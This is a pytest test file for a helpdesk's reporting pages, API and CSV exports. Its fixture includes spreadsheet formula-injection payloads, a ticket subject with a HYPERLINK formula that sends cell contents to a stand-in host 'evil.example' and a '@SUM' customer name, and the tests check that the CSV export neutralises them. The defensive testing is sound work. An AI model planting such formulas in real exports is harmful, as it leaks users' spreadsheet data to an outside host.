"""Reports as a team lead reads them: a small week of tickets with known figures, the page and the
API agreeing, CSV as a spreadsheet opens it, bad filters refused politely, and no report for agents
or customers."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import text

from tests.conftest import PASSWORD

UTC = timezone.utc
WEEK = "range=custom&from=2026-03-02&to=2026-03-08"  # Monday to Sunday, Paris winter time (UTC+1)


def at(day: int, hour: int, minute: int = 0, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=UTC)


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture()
def week(app, factory, auth):
    """Seven tickets created in the week (plus one before it still open at its start, and two after
    it), their SLA clocks, survey answers and promises. Times are UTC; the reports count in Paris."""
    from helpdesk.extensions import db
    from helpdesk.models import CustomerProduct, Product, Promise, SlaClock, SurveyResponse, Team, Ticket

    with app.app_context():
        support, sales = Team(name="Support"), Team(name="Ventes")
        box, phone = Product(sku="BOX-1", name="Box fibre"), Product(sku="TEL-2", name="Téléphone")
        db.session.add_all([support, sales, box, phone])
        db.session.commit()
        ids = {"support": support.id, "sales": sales.id, "box": box.id}
    ids["alice"] = factory.user("agent", email="alice@example.com", name="Alice Agent", team_ids=[ids["support"]])
    ids["bob"] = factory.user("agent", email="bob@example.com", name="Bob Agent", team_ids=[ids["support"]])
    ids["lead"] = factory.user("lead", email="lead@example.com", name="Lina Lead")
    ids["customer_user"] = factory.user("customer", email="client@example.com")
    best = factory.customer("Léa Martin", tactical_segment="best")
    lost = factory.customer("@SUM(1+1)", tactical_segment="lost")  # a name that would be a formula
    with app.app_context():
        owned = CustomerProduct(customer_id=best, product_id=ids["box"], serial="SN-1")
        db.session.add(owned)
        db.session.commit()
        box_owned = owned.id

    def ticket(name, created, **fields):
        ids[name] = factory.ticket(fields.pop("customer_id", lost), subject=fields.pop("subject", f"Ticket {name}"),
                                   created_at=created, updated_at=created, **fields)

    common = {"status": "resolved"}
    ticket("t1", at(2, 8, 30), channel="phone", priority="high", team_id=ids["support"], assignee_id=ids["alice"],
           resolved_at=at(2, 11), agent_replies=1, product_id=box_owned, customer_id=best, **common)
    ticket("t2", at(2, 13, 10), channel="email", priority="normal", team_id=ids["support"], assignee_id=ids["alice"],
           status="closed", resolved_at=at(4, 10), agent_replies=3)
    ticket("t3", at(3, 9, 5), channel="email", priority="normal", team_id=ids["support"], assignee_id=ids["bob"],
           resolved_at=at(3, 12), agent_replies=1, reopened_count=1, **common)
    ticket("t4", at(4, 8), channel="portal", priority="low", team_id=ids["support"], assignee_id=ids["bob"],
           resolved_at=at(4, 10), agent_replies=1, product_id=box_owned, customer_id=best, **common)
    ticket("t5", at(5, 15, 45), channel="phone", priority="urgent", team_id=ids["sales"], assignee_id=ids["alice"],
           status="open", product_id=box_owned, customer_id=best)
    ticket("t6", at(6, 17, 20), channel="chat", priority="normal", team_id=ids["sales"], status="open",
           subject='=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")')
    # Sunday 00:30 in Paris is still Saturday in UTC: the report's day and hour are Paris ones.
    ticket("t9", at(7, 23, 30), channel="email", priority="normal", team_id=ids["support"], assignee_id=ids["bob"],
           resolved_at=at(8, 9), agent_replies=0, subject="Problème d'écran « noir »", **common)
    ticket("t7", at(20, 10, month=2), channel="email", priority="normal", team_id=ids["support"],
           assignee_id=ids["alice"], resolved_at=at(3, 9), agent_replies=2, **common)  # open when the week starts
    ticket("t8", at(10, 10), channel="email", team_id=ids["support"], status="open")  # the week after
    # Monday 00:30 in Paris: the next week, though still Sunday in UTC.
    ticket("t10", at(8, 23, 30), channel="email", team_id=ids["support"], status="open")

    with app.app_context():
        db.session.execute(text("UPDATE tickets SET repeat_of_id = :t4 WHERE id = :t5"),
                           {"t4": ids["t4"], "t5": ids["t5"]})

        def clock(ticket_name, metric, state, elapsed, stopped=True, started=True):
            created = db.session.get(Ticket, ids[ticket_name]).created_at
            db.session.add(SlaClock(ticket_id=ids[ticket_name], metric=metric, state=state, elapsed_seconds=elapsed,
                                    started_at=created if started else None,
                                    stopped_at=created + timedelta(hours=1) if stopped else None,
                                    target_seconds=3600))

        for name, fr, fr_state, res, res_state in (("t1", 600, "met", 5400, "met"),
                                                    ("t2", 1800, "met", 90000, "breached"),
                                                    ("t3", 7200, "breached", 3600, "met"),
                                                    ("t4", 1200, "met", 2400, "met"),
                                                    ("t9", 900, "met", 1000, "met")):
            clock(name, "first_response", fr_state, fr)
            clock(name, "resolution", res_state, res)
        clock("t5", "first_response", "running", 100, stopped=False)
        clock("t5", "resolution", "running", 100, stopped=False)
        clock("t1", "next_response", "met", 0, stopped=False, started=False)  # no cycle: no promise
        clock("t2", "next_response", "met", 300)
        clock("t8", "first_response", "breached", 99999)  # not in the week

        def answer(ticket_name, agent, day, csat=None, nps=None, effort=None):
            db.session.add(SurveyResponse(customer_id=lost, ticket_id=ids[ticket_name], agent_id=ids[agent],
                                          team_id=ids["support"], csat=csat, nps=nps, effort=effort,
                                          created_at=at(day, 12)))

        answer("t1", "alice", 3, csat=5, nps=10, effort=2)
        answer("t2", "alice", 5, csat=2, nps=3, effort=6)
        answer("t3", "bob", 4, csat=4, nps=9)
        answer("t7", "alice", 10, csat=1)  # the week after

        def promise(ticket_name, owner, state, day):
            db.session.add(Promise(ticket_id=ids[ticket_name], owner_id=ids[owner], what="Rappeler", state=state,
                                   due_at=at(day, 16), created_at=at(day, 9)))

        promise("t1", "alice", "kept", 2)
        promise("t2", "alice", "kept", 3)
        promise("t5", "alice", "broken", 5)
        promise("t5", "alice", "pending", 6)
        promise("t8", "alice", "kept", 10)  # the week after
        promise("t3", "bob", "broken", 3)
        db.session.commit()
    ids["lead_token"] = auth.token("lead@example.com")
    ids["agent_token"] = auth.token("alice@example.com")
    ids["customer_token"] = auth.token("client@example.com")
    return ids


def api(client, week, path, query=WEEK):
    response = client.get(f"/api/v1/reports/{path}?{query}", headers=bearer(week["lead_token"]))
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_json()


def percentile(values, fraction):
    """Linear interpolation between closest ranks, written out (what percentile_cont does), to 0.1 s."""
    ordered = sorted(values)
    position = fraction * (len(ordered) - 1)
    lower = int(position)
    if lower + 1 == len(ordered):
        return float(ordered[lower])
    return round(ordered[lower] + (position - lower) * (ordered[lower + 1] - ordered[lower]), 1)  # as reported


# --- figures -----------------------------------------------------------------------------------------


def test_sla_compliance_counts_decided_clocks_of_the_weeks_tickets(client, week, db_session):
    report = api(client, week, "sla")
    assert report["from"] == "2026-03-02" and report["to"] == "2026-03-08" and report["timezone"] == "Europe/Paris"
    assert report["metrics"]["first_response"] == {"met": 4, "breached": 1, "pending": 1, "compliance": 80.0}
    assert report["metrics"]["next_response"] == {"met": 1, "breached": 0, "pending": 0, "compliance": 100.0}
    assert report["metrics"]["resolution"] == {"met": 4, "breached": 1, "pending": 1, "compliance": 80.0}
    # The same counts in plain SQL: clocks started in the Paris week (midnight = 23:00 UTC in winter).
    start, end = datetime(2026, 3, 1, 23, tzinfo=UTC), datetime(2026, 3, 8, 23, tzinfo=UTC)
    rows = db_session.execute(text(
        "SELECT c.metric, c.state, COUNT(*) FROM sla_clocks c "
        "WHERE c.started_at >= :s AND c.started_at < :e GROUP BY c.metric, c.state"),
        {"s": _db_time(db_session, start), "e": _db_time(db_session, end)}).all()
    counted = {(m, s): n for m, s, n in rows}
    for metric, figures in report["metrics"].items():
        assert figures["met"] == counted.get((metric, "met"), 0)
        assert figures["breached"] == counted.get((metric, "breached"), 0)
    assert report["by_priority"]["normal"]["first_response"] == {"met": 2, "breached": 1, "pending": 0,
                                                                 "compliance": 66.7}
    assert set(report["by_priority"]) == {"low", "normal", "high", "urgent"}


def test_a_next_response_asked_in_the_week_counts_though_its_ticket_is_older(app, client, week):
    """A next response starts on the customer's message: a ticket opened in February whose customer
    wrote again in the week counts in the week's next-response figures (first response and resolution
    are found through their tickets' creation; this clock is not)."""
    from helpdesk.extensions import db
    from helpdesk.models import SlaClock

    with app.app_context():
        db.session.add(SlaClock(ticket_id=week["t7"], metric="next_response", state="breached", elapsed_seconds=7200,
                                started_at=at(3, 10), stopped_at=at(3, 14), target_seconds=3600))
        db.session.commit()
    report = api(client, week, "sla")
    assert report["metrics"]["next_response"] == {"met": 1, "breached": 1, "pending": 0, "compliance": 50.0}
    assert report["by_priority"]["normal"]["next_response"]["breached"] == 1
    assert report["metrics"]["first_response"]["met"] == 4  # t7's own creation is not in the week


def _db_time(session, value: datetime):
    # SQLite keeps UTC as naive text; PostgreSQL compares aware timestamps.
    return value.replace(tzinfo=None) if session.get_bind().dialect.name == "sqlite" else value


def test_times_are_business_seconds_median_and_90th_percentile(client, week):
    times = api(client, week, "sla")["times"]
    first, resolution = [600, 1800, 7200, 1200, 900], [5400, 90000, 3600, 2400, 1000]
    assert times["first_response"] == {"count": 5, "median_seconds": 1200.0, "p90_seconds": 5040.0}
    assert times["first_response"]["p90_seconds"] == percentile(first, 0.9)
    assert times["resolution"] == {"count": 5, "median_seconds": 3600.0, "p90_seconds": percentile(resolution, 0.9)}
    # A ticket filter reads the clocks joined to their tickets (another query on SQLite): same rule.
    alice = api(client, week, "sla", f"{WEEK}&agent={week['alice']}")["times"]
    assert alice["first_response"] == {"count": 2, "median_seconds": 1200.0, "p90_seconds": 1680.0}
    assert alice["resolution"] == {"count": 2, "median_seconds": 47700.0, "p90_seconds": percentile([5400, 90000], 0.9)}


def test_first_contact_resolution_and_reopen_rates(client, week):
    report = api(client, week, "sla")
    # Resolved: t1 t2 t3 t4 t9. On first contact: t1 and t9 (t2 took three replies, t3 was reopened,
    # t4 was repeated by t5 about the same box).
    assert report["first_contact_resolution"] == {"resolved": 5, "first_contact": 2, "rate": 40.0}
    assert report["reopen"] == {"resolved": 5, "reopened": 1, "rate": 20.0}


def test_volume_per_day_channel_and_local_hour(client, week):
    report = api(client, week, "volume")
    assert report["created"] == {"total": 7, "by_channel": {"phone": 2, "email": 3, "portal": 1, "chat": 1}}
    assert report["resolved"] == {"total": 6, "by_channel": {"phone": 1, "email": 4, "portal": 1, "chat": 0}}
    days = {d["day"]: d for d in report["by_day"]}
    assert list(days) == [f"2026-03-0{d}" for d in range(2, 9)]
    assert days["2026-03-02"]["created"] == {"phone": 1, "email": 1, "portal": 0, "chat": 0}
    assert days["2026-03-07"]["created"]["email"] == 0  # t9 is Sunday in Paris
    assert days["2026-03-08"]["created"]["email"] == 1
    grid = report["by_hour"]["created"]
    # Paris hours: t1 Mon 9h, t2 Mon 14h, t3 Tue 10h, t4 Wed 9h, t5 Thu 16h, t6 Fri 18h, t9 Sun 0h.
    expected = {(0, 9), (0, 14), (1, 10), (2, 9), (3, 16), (4, 18), (6, 0)}
    assert {(wd, h) for wd in range(7) for h in range(24) if grid[wd][h]} == expected
    assert sum(map(sum, grid)) == 7


def test_backlog_is_the_tickets_open_at_the_end_of_each_day(client, week, db_session):
    report = api(client, week, "volume")
    backlog = [d["backlog"] for d in report["by_day"]]
    assert backlog == [2, 1, 0, 1, 2, 2, 2]
    # The definition, one plain count per day end (Paris midnight = 23:00 UTC in March).
    for i, figure in enumerate(backlog):
        day_end = _db_time(db_session, datetime(2026, 3, 2 + i, 23, tzinfo=UTC))
        counted = db_session.scalar(text(
            "SELECT COUNT(*) FROM tickets WHERE created_at < :e AND (resolved_at IS NULL OR resolved_at >= :e)"),
            {"e": day_end})
        assert figure == counted, report["by_day"][i]["day"]


def test_agent_table(client, week):
    rows = {row["name"]: row for row in api(client, week, "agents")["items"]}
    assert set(rows) == {"Alice Agent", "Bob Agent"}
    alice, bob = rows["Alice Agent"], rows["Bob Agent"]
    assert (alice["handled"], bob["handled"]) == (3, 3)
    assert alice["first_contact_resolution"] == {"resolved": 2, "first_contact": 1, "rate": 50.0}
    assert bob["first_contact_resolution"] == {"resolved": 3, "first_contact": 1, "rate": 33.3}
    assert alice["first_response"] == {"count": 2, "median_seconds": 1200.0,
                                       "p90_seconds": percentile([600, 1800], 0.9)}
    assert alice["resolution"] == {"count": 2, "median_seconds": 47700.0, "p90_seconds": 81540.0}
    assert bob["first_response"] == {"count": 3, "median_seconds": 1200.0, "p90_seconds": 6000.0}
    assert bob["resolution"] == {"count": 3, "median_seconds": 2400.0, "p90_seconds": 3360.0}
    assert alice["csat"] == {"answers": 2, "average": 3.5, "percent_satisfied": 50.0}
    assert bob["csat"] == {"answers": 1, "average": 4.0, "percent_satisfied": 100.0}
    # Promises made in the week: Alice kept 2, broke 1 (the pending one is not decided yet).
    assert alice["promises"] == {"kept": 2, "broken": 1, "kept_percent": 66.7}
    assert bob["promises"] == {"kept": 0, "broken": 1, "kept_percent": 0.0}


def test_satisfaction_trend_in_the_same_period(client, week):
    report = api(client, week, "satisfaction")
    assert report["responses"] == 3
    assert report["csat"] == {"average": 3.67, "percent_satisfied": 66.7, "answers": 3}
    assert report["nps"]["score"] == 33.3
    assert [d["day"] for d in report["by_day"]] == ["2026-03-03", "2026-03-04", "2026-03-05"]


@pytest.mark.parametrize("query, created, handled, first_response_clocks", [
    ("team=Support", 5, {"Alice Agent": 2, "Bob Agent": 3}, 5),  # t1 t2 t3 t4 t9
    ("agent={alice}", 3, {"Alice Agent": 3}, 3),  # t1 t2 t5
    ("priority=normal", 4, {"Alice Agent": 1, "Bob Agent": 2}, 3),  # t2 t3 t6 t9 (t6 has no clock)
    ("product=BOX-1", 3, {"Alice Agent": 2, "Bob Agent": 1}, 3),  # t1 t4 t5, by SKU
    ("product={box}", 3, {"Alice Agent": 2, "Bob Agent": 1}, 3),  # ... or by id
    ("channel=email", 3, {"Alice Agent": 1, "Bob Agent": 2}, 3),  # t2 t3 t9
    ("segment=best", 3, {"Alice Agent": 2, "Bob Agent": 1}, 3),  # Léa's tickets t1 t4 t5
])
def test_filters_narrow_every_report(client, week, query, created, handled, first_response_clocks):
    query = f"{WEEK}&{query.format(**week)}"
    assert api(client, week, "volume", query)["created"]["total"] == created
    rows = api(client, week, "agents", query)["items"]
    assert {row["name"]: row["handled"] for row in rows if row["handled"]} == handled
    first_response = api(client, week, "sla", query)["metrics"]["first_response"]
    assert first_response["met"] + first_response["breached"] + first_response["pending"] == first_response_clocks


def test_named_ranges_end_today(client, week):
    for name, days in (("today", 1), ("7d", 7), ("30d", 30)):
        report = api(client, week, "volume", f"range={name}")
        assert report["range"] == name and len(report["by_day"]) == days
    quarter = api(client, week, "volume", "range=quarter")
    assert quarter["from"][8:] == "01" and int(quarter["from"][5:7]) in (1, 4, 7, 10)


# --- the page and the API agree ------------------------------------------------------------------------


def _login(client, email):
    response = client.post("/login", data={"email": email, "password": PASSWORD})
    assert response.status_code == 302


def test_the_page_shows_the_api_figures_with_charts_and_tables(client, week):
    query = f"{WEEK}&team={week['support']}"
    sla, volume, agents = (api(client, week, name, query) for name in ("sla", "volume", "agents"))
    _login(client, "lead@example.com")

    html = client.get(f"/lead/reports?{query}&lang=en").get_data(as_text=True)  # the first view: SLA
    for metric, figures in sla["metrics"].items():
        row = re.search(rf'<tr data-metric="{metric}">(.*?)</tr>', html, re.S).group(1)
        assert f"{figures['compliance']} %" in row
    for metric, spread in sla["times"].items():
        row = re.search(rf'<tr data-metric="{metric}"><th scope="row">[^<]*</th>'
                        r'<td class="num" data-median="([^"]*)"', html)
        assert float(row.group(1)) == spread["median_seconds"]
    assert f'{sla["first_contact_resolution"]["rate"]} %' in re.search(r"<dd data-fcr>(.*?)</dd>", html, re.S).group(1)
    assert html.count('role="img"') == 1  # its chart, inline SVG: no script, no CDN
    assert not re.search(r'(src|href)="(https?:)?//', html)  # nothing loaded from elsewhere
    # The filters stay in every link: CSV downloads and the other views.
    kept = f"range=custom&amp;from=2026-03-02&amp;to=2026-03-08&amp;team={week['support']}"
    assert f"/lead/reports/sla.csv?{kept}" in html and f"/lead/reports?view=agents&amp;{kept}" in html

    html = client.get(f"/lead/reports?view=volume&{query}&lang=en").get_data(as_text=True)
    assert html.count('role="img"') == 3  # created per day, created/resolved/backlog, the heat-map
    created = re.search(r'<tr data-row="created">(.*?)</tr>', html, re.S).group(1)
    assert f'<td class="num">{volume["created"]["total"]}</td>' in created

    html = client.get(f"/lead/reports?view=agents&{query}&lang=en").get_data(as_text=True)
    for item in agents["items"]:
        row = re.search(rf'<tr data-agent-id="{item["agent_id"]}">(.*?)</tr>', html, re.S).group(1)
        assert f'<td class="num" data-handled>{item["handled"]}</td>' in row
        assert f'{item["first_contact_resolution"]["rate"]} %' in row

    html = client.get(f"/lead/reports?view=satisfaction&{query}&lang=en").get_data(as_text=True)
    assert html.count('role="img"') == 3 and "66.7 %" in html
    assert client.get(f"/lead/reports?view=nothing&{query}").status_code == 404


def test_the_page_is_in_french_by_default(client, week):
    _login(client, "lead@example.com")
    html = client.get(f"/lead/reports?{WEEK}").get_data(as_text=True)
    assert "Respect des SLA" in html and "80,0 %" in html


# --- CSV ---------------------------------------------------------------------------------------------


def _excel_rows(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_tickets_of_the_period_as_excel_reads_them(client, week):
    _login(client, "lead@example.com")
    response = client.get(f"/lead/reports/tickets.csv?{WEEK}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = _excel_rows(response)
    assert header[:5] == ["number", "subject", "customer", "team", "agent"]
    assert len(rows) == 7
    by_subject = {row[1]: row for row in rows}
    hyperlink = next(s for s in by_subject if "HYPERLINK" in s)
    assert hyperlink.startswith("'=HYPERLINK(")  # neutralised: shown as text, never evaluated
    assert by_subject[hyperlink][2] == "'@SUM(1+1)"
    sunday = by_subject["Problème d'écran « noir »"]  # accents survive
    assert sunday[8] == "2026-03-08T00:30:00+01:00"  # Paris time, with its offset
    fcr = {row[1]: row[header.index("first_contact_resolution")] for row in rows}
    assert fcr["Ticket t1"] == "yes" and fcr["Ticket t2"] == "no" and fcr["Ticket t5"] == ""
    assert by_subject["Ticket t2"][header.index("sla_resolution")] == "breached"


def test_the_ticket_export_reads_page_by_page(app, week):
    from helpdesk.extensions import db
    from helpdesk.reports.filters import parse_filters
    from helpdesk.reports.ticket_export import ticket_rows

    with app.app_context():
        filters = parse_filters(db.session, {"from": "2026-03-02", "to": "2026-03-08"}, datetime.now(UTC))
        whole = list(ticket_rows(db.session, filters))
        paged = list(ticket_rows(db.session, filters, page_size=2))
    assert paged == whole and len(whole) == 7
    assert [row[8] for row in whole] == sorted(row[8] for row in whole)


def test_tickets_created_at_the_same_instant_are_each_exported_once_across_pages(app, week):
    """A page may end in the middle of tickets sharing one creation time (a bulk import): the next
    page goes on after the last one read, by id, and loses or repeats none."""
    from helpdesk.extensions import db
    from helpdesk.reports.filters import parse_filters
    from helpdesk.reports.ticket_export import ticket_rows

    with app.app_context():
        same = db.session.execute(text("SELECT created_at FROM tickets WHERE id = :t"), {"t": week["t2"]}).scalar()
        db.session.execute(text("UPDATE tickets SET created_at = :at WHERE id IN (:a, :b, :c, :d)"),
                           {"at": same, "a": week["t2"], "b": week["t3"], "c": week["t4"], "d": week["t6"]})
        db.session.commit()
        filters = parse_filters(db.session, {"from": "2026-03-02", "to": "2026-03-08"}, datetime.now(UTC))
        for size in (1, 2, 3):
            numbers = [row[0] for row in ticket_rows(db.session, filters, page_size=size)]
            assert len(numbers) == len(set(numbers)) == 7, size


@pytest.mark.parametrize("name, first_cell", [("sla", "metric"), ("volume", "day"), ("hours", "weekday"),
                                              ("agents", "agent_id"), ("satisfaction", "day")])
def test_every_table_downloads_from_the_page_and_the_api(client, week, name, first_cell):
    path = {"hours": "volume", "volume": "volume"}.get(name, name)
    extra = "&table=hours" if name == "hours" else ""
    from_api = client.get(f"/api/v1/reports/{path}?{WEEK}&format=csv{extra}", headers=bearer(week["lead_token"]))
    assert _excel_rows(from_api)[0][0] == first_cell
    by_accept = client.get(f"/api/v1/reports/{path}?{WEEK}{extra}",
                           headers={**bearer(week["lead_token"]), "Accept": "text/csv"}).get_data()
    _login(client, "lead@example.com")
    from_page = client.get(f"/lead/reports/{name}.csv?{WEEK}").get_data()
    assert from_api.get_data() == from_page == by_accept


# --- bad filters and access --------------------------------------------------------------------------


@pytest.mark.parametrize("query, field", [
    ("from=2026-03-08&to=2026-03-01", "to"),
    ("team=Nobody", "team"),
    ("from=2026-02-30", "from"),
    ("range=forever", "range"),
    ("agent=999999", "agent"),
    ("product=NOPE", "product"),
    ("channel=pigeon", "channel"),
    ("from=2020-01-01&to=2026-01-01", "from"),
])
def test_bad_filters_are_a_400_with_the_json_error_shape(client, week, query, field):
    for path in ("sla", "volume", "agents", "satisfaction", "tickets"):
        response = client.get(f"/api/v1/reports/{path}?{query}", headers=bearer(week["lead_token"]))
        assert response.status_code == 400, path
        error = response.get_json()["error"]
        assert error["code"] == "validation_error" and field in error["details"]["fields"]


def test_bad_filters_on_the_page_are_a_form_error(client, week):
    _login(client, "lead@example.com")
    response = client.get("/lead/reports?range=custom&from=2026-03-08&to=2026-03-01&team=Nobody")
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "La fin de la période précède son début." in html and "Équipe inconnue." in html
    assert 'aria-invalid="true"' in html and 'value="2026-03-08"' in html  # what was typed stays
    assert client.get("/lead/reports/sla.csv?team=Nobody").status_code == 400
    assert client.get("/lead/reports/nothing.csv").status_code == 404


@pytest.mark.parametrize("who", ["alice@example.com", "client@example.com"])
def test_agents_and_customers_get_no_report_page(client, week, who):
    _login(client, who)
    assert client.get(f"/lead/reports?{WEEK}").status_code == 403
    assert client.get(f"/lead/reports/tickets.csv?{WEEK}").status_code == 403


@pytest.mark.parametrize("token", ["agent_token", "customer_token"])
def test_agents_and_customers_get_no_report_from_the_api(client, week, token):
    for path in ("sla", "volume", "agents", "satisfaction", "tickets"):
        response = client.get(f"/api/v1/reports/{path}?{WEEK}", headers=bearer(week[token]))
        assert response.status_code == 403, path
        assert response.get_json()["error"]["code"] == "forbidden"
